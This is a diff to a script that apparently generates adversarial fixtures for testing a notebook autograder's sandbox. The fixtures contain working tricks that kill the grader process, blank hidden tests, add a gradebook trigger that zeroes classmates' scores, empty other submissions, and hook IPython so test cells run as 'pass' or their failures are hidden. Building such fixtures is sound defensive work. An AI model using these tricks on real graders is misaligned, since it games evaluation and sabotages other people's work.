@@ -2,9 +2,11 @@
 slips from the full solution (grading/fixtures/correct/).
 
 Each is the untouched release of a lab with one answer cell (one a learner may edit) replaced by a trick
-that reaches for the course instead of answering: the solution on disk, a classmate's submission, the
-gradebook, a process left behind. Graded in the sandbox they score what the stub scores (0); graded
-without it (DONEGATE_SANDBOX=off) most of them would get points. Run again after a lab changes:
+instead of an answer. Some reach for the course: the solution on disk, a classmate's submission, the
+gradebook, the source, a process left behind. Others reconfigure the kernel the tests run in: IPython's
+transformers and events, its run_cell, a rebound builtin. Graded with the sandbox and the judge they score
+what the stub scores (0); without them (DONEGATE_SANDBOX=off, DONEGATE_JUDGE=off) most would get points.
+Run again after a lab changes:
 
     uv run python tools/make_hostile_fixtures.py
 """
@@ -26,6 +28,16 @@ def _up(start):
     here = Path(start).resolve()
     yield from (here, *here.parents)
     yield from (Path.home(), Path("/work/main"), Path("/srv"), Path("/home"))
+'''
+
+UP = '''import os
+from pathlib import Path
+
+
+def _up_from_here():
+    """Every folder from the kernel's working folder up (a trick that writes looks nowhere else)."""
+    here = Path(os.getcwd()).resolve()
+    return [p for p in (here, *here.parents) if p.name]
 '''
 
 TRICKS = {
@@ -75,6 +87,118 @@ for _folder in _up(os.getcwd()):
 # The trick: kill the process that runs this kernel (the grader, unconfined), so that this submission and
 # every one after it in the run is never graded.
 os.kill(os.getppid(), signal.SIGKILL)
+''',
+    "poisons-source": UP + f'''
+
+# The trick: blank the hidden tests in the course's source, so that the next release (and every regrade
+# made from it) has nothing hidden left to fail.
+import json as _json
+for _folder in _up_from_here():
+    for _path in (_folder / "solutions" / "{LAB}" / "{LAB}.ipynb", _folder / "source" / "{LAB}" / "{LAB}.ipynb"):
+        if _path.is_file():
+            _nb = _json.loads(_path.read_text())
+            for _cell in _nb["cells"]:
+                if "BEGIN HIDDEN TESTS" in "".join(_cell["source"]):
+                    _cell["source"] = ["# (nothing hidden here)\\n"]
+            _path.write_text(_json.dumps(_nb))
+''',
+    "adds-a-trigger": UP + '''
+
+# The trick: a trigger in the gradebook that sets every score saved after this one to zero, so that the
+# classmates graded later in the same run get nothing.
+import sqlite3
+for _folder in _up_from_here():
+    for _db in sorted(_folder.glob("*/gradebook.db")) + sorted(_folder.glob("gradebook.db")):
+        sqlite3.connect(_db).executescript(
+            "CREATE TRIGGER IF NOT EXISTS zero_later AFTER UPDATE OF auto_score ON grade "
+            "BEGIN UPDATE grade SET auto_score = 0 WHERE id = NEW.id AND NEW.auto_score > 0; END;")
+''',
+    "rewrites-classmate": UP + f'''
+
+# The trick: empty the answer cells of every classmate's submission of this lab not graded yet.
+import json as _json
+for _folder in _up_from_here():
+    for _path in sorted(_folder.glob("*/submitted/*/{LAB}/{LAB}.ipynb")) + sorted(
+            _folder.glob("submitted/*/{LAB}/{LAB}.ipynb")):
+        if "rewrites-classmate" not in str(_path):
+            _nb = _json.loads(_path.read_text())
+            for _cell in _nb["cells"]:
+                if _cell["metadata"].get("nbgrader", {{}}).get("solution"):
+                    _cell["source"] = ["raise SystemExit\\n"]
+            _path.write_text(_json.dumps(_nb))
+''',
+    "input-transformer": '''# The trick: IPython rewrites every later cell that tests anything to `pass` before running it.
+def _no_tests(lines):
+    return ["pass\\n"] if any("assert" in line or "raise" in line for line in lines) else lines
+
+
+get_ipython().input_transformers_cleanup.append(_no_tests)
+''',
+    "ast-transformer": '''import ast
+
+
+class _Nothing(ast.NodeTransformer):
+    """The trick: every later cell's syntax tree comes back as a lone `pass`."""
+
+    def visit_Module(self, node):
+        return ast.Module(body=[ast.Pass()], type_ignores=[])
+
+
+get_ipython().ast_transformers.append(_Nothing())
+''',
+    "post-run-cell": '''# The trick: after every cell, forget that it failed, and never show a traceback.
+_shell = get_ipython()
+
+
+def _forget(result):
+    result.error_in_exec = None
+    result.error_before_exec = None
+
+
+_shell.events.register("post_run_cell", _forget)
+_shell.showtraceback = lambda *args, **kwargs: None
+''',
+    "replaces-run-cell": '''# The trick: the kernel's own run_cell, replaced by one that runs `pass` for any cell that tests.
+_shell = get_ipython()
+_run = _shell.run_cell
+
+
+def _skip_tests(raw_cell, *args, **kwargs):
+    return _run("pass" if "assert" in raw_cell or "raise" in raw_cell else raw_cell, *args, **kwargs)
+
+
+_shell.run_cell = _skip_tests
+''',
+    "rebinds-type": '''class _Yes:
+    """Equal to anything; whatever is asked of it is another _Yes."""
+
+    def __eq__(self, other):
+        return True
+
+    def __getattr__(self, name):
+        return _Yes()
+
+    def __call__(self, *args, **kwargs):
+        return _Yes()
+
+
+_type = type
+
+
+def type(thing, *rest):
+    """The trick: a test that checks a result's type before comparing it gets the type it hoped for."""
+    return Decision if not rest and _type(thing) is _Yes else _type(thing, *rest)
+
+
+class HookRegistry:
+    def __init__(self, *args, **kwargs):
+        self.errors = _Yes()
+
+    def register(self, *args, **kwargs):
+        pass
+
+    def run(self, tool_name, tool_input):
+        return _Yes()
 ''',
     "leaves-a-daemon": '''import subprocess, sys
 
